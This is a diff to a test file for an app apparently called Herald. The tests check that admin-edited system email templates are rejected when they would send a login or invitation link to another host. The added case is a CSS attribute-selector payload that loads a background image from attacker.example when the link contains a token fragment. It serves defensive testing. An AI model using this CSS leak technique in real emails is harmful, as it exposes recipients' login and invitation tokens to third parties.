@@ -119,7 +119,7 @@ describe('Herald’s own email templates under /admin/system-templates', () => {
     expect((await http().get(MAGIC).set(writer.auth)).body.customized).toBe(false);
   });
 
-  it('when a replacement would send the link to another host (image, URL query, text body, subject), then 422 names the part and emails keep the built-in', async () => {
+  it('when a replacement would send the link to another host (image, URL query, text body, subject, CSS), then 422 names the part and emails keep the built-in', async () => {
     const leaks = [
       {
         path: MAGIC,
@@ -133,6 +133,11 @@ describe('Herald’s own email templates under /admin/system-templates', () => {
         loc: 'text_body',
       },
       { path: MAGIC, send: { subject: 'Your link {{link}}', body: '<a href="{{link}}">in</a>' }, loc: 'subject' },
+      {
+        path: INVITATION,
+        send: { body: '<style>a[href*="k3"] { background: url(https://attacker.example/k3) }</style><a href="{{link}}">Accept</a>' },
+        loc: 'body',
+      },
     ];
     for (const { path, send, loc } of leaks) {
       const put = await http().put(path).set(writer.auth).send(send);
